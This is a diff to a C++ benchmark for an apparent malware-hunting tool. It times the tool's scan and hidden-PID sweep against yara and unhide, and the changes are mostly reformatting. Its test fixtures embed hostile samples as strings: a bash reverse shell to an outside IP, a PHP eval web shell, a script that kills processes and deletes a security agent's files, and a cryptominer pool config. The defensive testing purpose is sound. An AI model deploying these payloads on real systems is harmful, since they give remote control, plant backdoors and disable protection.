@@ -82,13 +82,14 @@ Run run(const std::vector<std::string>& argv) {
 // Text files of 0.5-8 KiB (the common case on a real system) with a few planted attacker files.
 size_t make_tree(const fs::path& root, size_t files, std::vector<std::string>& planted) {
   std::mt19937 rng(42);
-  const char* words[] = {"config", "server", "value", "user", "cache", "index", "token", "debug", "listen",
-                         "module", "import", "return", "static", "public", "string", "number"};
+  const char* words[] = {"config", "server", "value",  "user",   "cache",  "index",  "token",  "debug",
+                         "listen", "module", "import", "return", "static", "public", "string", "number"};
   const std::vector<std::pair<std::string, std::string>> bad = {
       {"rs.sh", "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"},
       {"up.php", "<?php @eval(base64_decode($_POST['k'])); ?>\n"},
       {"k.sh", "#!/bin/sh\npkill -9 -f kdevtmpfsi\nrm -rf /usr/local/aegis\n/usr/local/aegis/uninstall.sh\n"},
-      {"config.json", "{\"pools\": [{\"url\": \"pool.example:4444\", \"user\": \"w\"}], \"donate-level\": 1, \"cpu\": {}}\n"},
+      {"config.json",
+       "{\"pools\": [{\"url\": \"pool.example:4444\", \"user\": \"w\"}], \"donate-level\": 1, \"cpu\": {}}\n"},
   };
   size_t per_dir = 500, bytes = 0;
   for (size_t i = 0; i < files; ++i) {
@@ -135,10 +136,14 @@ int main(int argc, char** argv) {
   std::string unmine = fs::canonical("/proc/self/exe").parent_path().parent_path() / "unmine";
   for (int i = 1; i < argc; ++i) {
     std::string a = argv[i];
-    if (a == "--files" && i + 1 < argc) files = std::stoul(argv[++i]);
-    else if (a == "--runs" && i + 1 < argc) runs = std::max(1, std::atoi(argv[++i]));
-    else if (a == "--keep") keep = true;
-    else if (a == "--unmine" && i + 1 < argc) unmine = argv[++i];
+    if (a == "--files" && i + 1 < argc)
+      files = std::stoul(argv[++i]);
+    else if (a == "--runs" && i + 1 < argc)
+      runs = std::max(1, std::atoi(argv[++i]));
+    else if (a == "--keep")
+      keep = true;
+    else if (a == "--unmine" && i + 1 < argc)
+      unmine = argv[++i];
   }
   bench::print_machine();
   auto work = fs::temp_directory_path() / ("unmine-hunt-bench-" + std::to_string(::getpid()));
@@ -170,8 +175,8 @@ int main(int argc, char** argv) {
     yaras.push_back(run({"/usr/bin/yara", "-r", "-p", "2", rules.string(), root.string()}));
     yara_fasts.push_back(run({"/usr/bin/yara", "-f", "-r", "-p", "2", rules.string(), root.string()}));
     auto case_dir = work / ("case" + std::to_string(i));
-    hunts.push_back(run({unmine, "--root", root.string(), "--case", case_dir.string(), "--json", "hunt", "--since", "1h",
-                         "--threads", "2", "--no-pid-sweep"}));
+    hunts.push_back(run({unmine, "--root", root.string(), "--case", case_dir.string(), "--json", "hunt", "--since",
+                         "1h", "--threads", "2", "--no-pid-sweep"}));
   }
   Run yara = median_run(yaras), yara_fast = median_run(yara_fasts), hunt = median_run(hunts);
   long hunt_rss = 0;
@@ -182,7 +187,8 @@ int main(int argc, char** argv) {
   std::set<std::string> hunt_paths;
   if (doc.is_object())
     for (auto& f : doc["findings"])
-      if (f["evidence"].contains("rule")) ++hunt_yara, hunt_paths.insert((root / f.value("path", "").substr(1)).string());
+      if (f["evidence"].contains("rule"))
+        ++hunt_yara, hunt_paths.insert((root / f.value("path", "").substr(1)).string());
   size_t both = 0;
   for (auto& p : planted) both += hunt_paths.count(p) && yara.out.find(p) != std::string::npos;
   double scanned = doc.is_object() ? doc["stats"]["files"]["files_scanned"].get<double>() : 0;
@@ -190,13 +196,16 @@ int main(int argc, char** argv) {
   std::printf("                  wall s   CPU s\n");
   std::printf("yara -r -p 2      %7.2f %7.2f  (%zu rule matches)\n", yara.seconds, yara.cpu_seconds, yara_lines);
   std::printf("yara -f -r -p 2   %7.2f %7.2f  (fast matching mode)\n", yara_fast.seconds, yara_fast.cpu_seconds);
-  std::printf("unmine hunt       %7.2f %7.2f  (whole command; %zu YARA findings, %.0f files scanned, exit %d, peak RSS %.1f MiB)\n",
-              hunt.seconds, hunt.cpu_seconds, hunt_yara, scanned, WEXITSTATUS(hunt.status), hunt_rss / 1024.0);
+  std::printf(
+      "unmine hunt       %7.2f %7.2f  (whole command; %zu YARA findings, %.0f files scanned, exit %d, peak RSS %.1f "
+      "MiB)\n",
+      hunt.seconds, hunt.cpu_seconds, hunt_yara, scanned, WEXITSTATUS(hunt.status), hunt_rss / 1024.0);
   std::printf("planted files found by both: %zu of %zu\n", both, planted.size());
   std::printf("time ratio hunt / yara -r -p 2: %.2f wall, %.2f CPU (target <= 0.50) %s; vs yara -f: %.2f wall\n",
               hunt.seconds / yara.seconds, hunt.cpu_seconds / yara.cpu_seconds,
               hunt.seconds / yara.seconds <= 0.5 ? "MET" : "NOT MET", hunt.seconds / yara_fast.seconds);
-  std::printf("hunt peak RSS: %.1f MiB (target < 100) %s\n", hunt_rss / 1024.0, hunt_rss < 100 * 1024 ? "MET" : "NOT MET");
+  std::printf("hunt peak RSS: %.1f MiB (target < 100) %s\n", hunt_rss / 1024.0,
+              hunt_rss < 100 * 1024 ? "MET" : "NOT MET");
 
   std::printf("\n== hidden-PID sweep: PIDs 1..%d\n", unmine::kPidMaxLimit);
   unmine::PidSweepOptions so;
@@ -214,7 +223,8 @@ int main(int argc, char** argv) {
     auto theirs = unhide_pids(uh.out);
     size_t missed = 0;
     for (int p : theirs) missed += !ours.count(p) && unmine::pid_exists(p);
-    std::printf("unhide quick      %7.3f %7.3f  (%zu hidden PIDs reported)\n", uh.seconds, uh.cpu_seconds, theirs.size());
+    std::printf("unhide quick      %7.3f %7.3f  (%zu hidden PIDs reported)\n", uh.seconds, uh.cpu_seconds,
+                theirs.size());
     std::printf("ratio: the sweep is %.1fx faster than unhide quick; PIDs unhide found that the sweep missed: %zu\n",
                 uh.seconds / sweep.sweep_seconds, missed);
   } else {
